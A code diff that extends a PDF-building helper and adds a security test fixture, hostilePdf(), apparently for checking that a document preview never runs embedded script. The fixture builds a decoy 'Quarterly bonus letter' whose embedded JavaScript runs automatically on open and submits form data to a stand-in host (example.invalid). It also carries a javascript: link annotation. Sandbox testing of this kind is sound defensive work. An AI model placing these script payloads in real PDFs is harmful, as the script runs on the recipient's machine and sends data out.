@@ -31,11 +31,18 @@ class PdfPage {
   }
 }
 
-function buildPdf(pages: PdfPage[], info: Record<string, string>): Buffer {
-  // Object numbers: 1 catalog, 2 page tree, 3-4 fonts, 5 info, then (page, contents) pairs.
+/** Extra dictionary entries for the catalog and the first page, and extra objects numbered after the pages. */
+interface PdfExtras {
+  catalog?: string;
+  firstPage?: string;
+  objects?: string[];
+}
+
+function buildPdf(pages: PdfPage[], info: Record<string, string>, extras: PdfExtras = {}): Buffer {
+  // Object numbers: 1 catalog, 2 page tree, 3-4 fonts, 5 info, then (page, contents) pairs, then the extras.
   const objects: string[] = [];
   const pageIds = pages.map((_, i) => 6 + i * 2);
-  objects[1] = '<< /Type /Catalog /Pages 2 0 R >>';
+  objects[1] = `<< /Type /Catalog /Pages 2 0 R${extras.catalog ? ` ${extras.catalog}` : ''} >>`;
   objects[2] = `<< /Type /Pages /Kids [${pageIds.map((id) => `${id} 0 R`).join(' ')}] /Count ${pages.length} >>`;
   objects[3] = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';
   objects[4] = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding /WinAnsiEncoding >>';
@@ -47,9 +54,11 @@ function buildPdf(pages: PdfPage[], info: Record<string, string>): Buffer {
     const content = page.content();
     objects[id] =
       '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ' +
-      `/Resources << /Font << /F1 3 0 R /F2 4 0 R >> >> /Contents ${id + 1} 0 R >>`;
+      `/Resources << /Font << /F1 3 0 R /F2 4 0 R >> >> /Contents ${id + 1} 0 R` +
+      `${i === 0 && extras.firstPage ? ` ${extras.firstPage}` : ''} >>`;
     objects[id + 1] = `<< /Length ${content.length} >>\nstream\n${content}endstream`;
   });
+  for (const object of extras.objects ?? []) objects.push(object);
 
   let out = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
   const offsets: number[] = [];
@@ -233,4 +242,29 @@ export function roadmapPdf(): Buffer {
     CreationDate: 'D:20261003093000Z',
     ModDate: 'D:20261003093000Z',
   });
+}
+
+/**
+ * Security fixture: a valid one-page PDF that tries to run JavaScript when opened (an OpenAction and a document-level
+ * script) and carries a `javascript:` link over its text. A preview must draw it and run none of it.
+ */
+export function hostilePdf(): Buffer {
+  const page = new PdfPage();
+  page.text(72, 720, 'Quarterly bonus letter', { size: 20, bold: true });
+  page.text(72, 690, 'This file carries script. Opening it must never run any of it.', { size: 11 });
+  // Objects 6-7 are the page and its contents; 8 is the script, 9 the link.
+  const script = '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\({cURL: "https://example.invalid/"}\\);) >>';
+  return buildPdf(
+    [page],
+    { Title: 'Quarterly bonus letter', Producer: 'stackone-inbox sandbox' },
+    {
+      catalog: '/OpenAction 8 0 R /Names << /JavaScript << /Names [(run) 8 0 R] >> >>',
+      firstPage: '/Annots [9 0 R]',
+      objects: [
+        script,
+        '<< /Type /Annot /Subtype /Link /Rect [72 680 540 740] /Border [0 0 0] ' +
+          '/A << /S /URI /URI (javascript:alert\\(document.domain\\)) >> >>',
+      ],
+    },
+  );
 }
